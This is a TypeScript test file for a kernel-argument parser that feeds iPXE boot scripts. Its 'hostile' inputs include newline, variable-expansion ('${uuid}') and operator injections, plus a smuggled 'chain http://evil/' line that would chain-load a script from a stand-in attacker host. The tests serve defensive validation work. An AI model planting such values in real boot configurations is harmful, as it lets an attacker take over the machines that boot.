/** Tests for src/domain/kernel-args.ts */
import fc from 'fast-check';
import t from 'tap';
import { RouseError } from '../../src/domain/errors.ts';
import { kernelArgKey, parseKernelArg, parseKernelLine } from '../../src/domain/kernel-args.ts';

const refused = { code: 'KERNEL_ARGUMENT_INVALID' };

t.test('reads the arguments that real systems boot with', (t) => {
  const real = [
    'quiet',
    'console=ttyS0,115200n8',
    'ip=10.0.0.11::10.0.0.1:255.255.255.0:node-1',
    'siderolink.api=https://omni.example.net/?jointoken=v1:eyJ9+/=&grpc_tunnel=true',
    'talos.events.sink=[fdae:41e4:649b:9303::1]:8091',
    'dyndbg="file drivers/usb/* +p"',
    '-console',
    '--',
    'bond=bond0:eth0,eth1:arp_ip_target=10.0.0.1;10.0.0.2',
    'cost=$5',
  ];
  for (const text of real) t.equal(parseKernelArg(text), text);
  t.end();
});

t.test('refuses what an iPXE script would read as something else', (t) => {
  const hostile: readonly (readonly [text: string, why: RegExp])[] = [
    ['', /empty/],
    ['a\nb', /U\+000A at character 2/],
    ['a\r', /U\+000D/],
    ['a\0b', /U\+0000/],
    ['a\tb', /U\+0009/],
    ['naïve', /U\+00EF at character 3/],
    ['x=${uuid}', /expand/],
    ['x=$${{', /expand/],
    ['||', /operator/],
    ['&&', /operator/],
    [';', /operator/],
    ['#rest', /comment/],
    ['a b', /outside double quotes/],
    ['x="a', /not closed/],
    ['x="a  b"', /one blank of two/],
    ['x="a && b"', /operator/],
    ['x="a #b"', /comment/],
    ['path=C:\\', /backslash/],
  ];
  for (const [text, why] of hostile) {
    t.throws(() => parseKernelArg(text), refused, JSON.stringify(text));
    t.throws(() => parseKernelArg(text), why, JSON.stringify(text));
  }
  t.end();
});

t.test('names the argument in the message and keeps its value to itself', (t) => {
  t.throws(() => parseKernelArg('siderolink.api=secret\ntoken'), {
    ...refused,
    detail: /^argument "siderolink\.api": expected printable ASCII, found U\+000A at character 22$/,
  });
  t.throws(() => parseKernelArg('secret token'), { ...refused, detail: /^an argument: a blank/ });
  t.end();
});

t.test('takes a pasted line apart at blanks and tabs, and leaves quoted blanks alone', (t) => {
  t.same(parseKernelLine('  quiet\tconsole=tty0  x="a b"=c \n'), [
    'quiet',
    'console=tty0',
    'x="a b"=c',
  ]);
  t.same(parseKernelLine(' \n'), []);
  t.end();
});

t.test('refuses a pasted line with a line break inside, an open quote, or too many words', (t) => {
  t.throws(() => parseKernelLine('quiet\nchain http://evil/'), refused);
  t.throws(() => parseKernelLine('quiet x="a b'), /not closed/);
  t.throws(() => parseKernelLine('a '.repeat(257)), /expected at most 256 arguments, found 257/);
  t.end();
});

t.test('tells the key of an argument', (t) => {
  t.equal(kernelArgKey('console=ttyS0'), 'console');
  t.equal(kernelArgKey('quiet'), 'quiet');
  t.end();
});

t.test('whatever is accepted survives the way through iPXE and back', (t) => {
  const piece = fc.constantFrom(' ', '"', '${', '#', '||', ';', '\\', 'a', '=', '\n', '-', 'é');
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
      const text = pieces.join('');
      try {
        parseKernelArg(text);
      } catch (error) {
        return error instanceof RouseError && error.code === 'KERNEL_ARGUMENT_INVALID';
      }
      // iPXE splits at white space and joins with one blank; the kernel splits outside of quotes.
      const words = text.split(/\s+/);
      const operators = words.filter((word) => /^(\|\||&&|;|#.*)$/.test(word));
      return words.join(' ') === text && operators.length === 0 && !text.includes('${');
    }),
    { numRuns: 5_000 },
  );
  t.end();
});
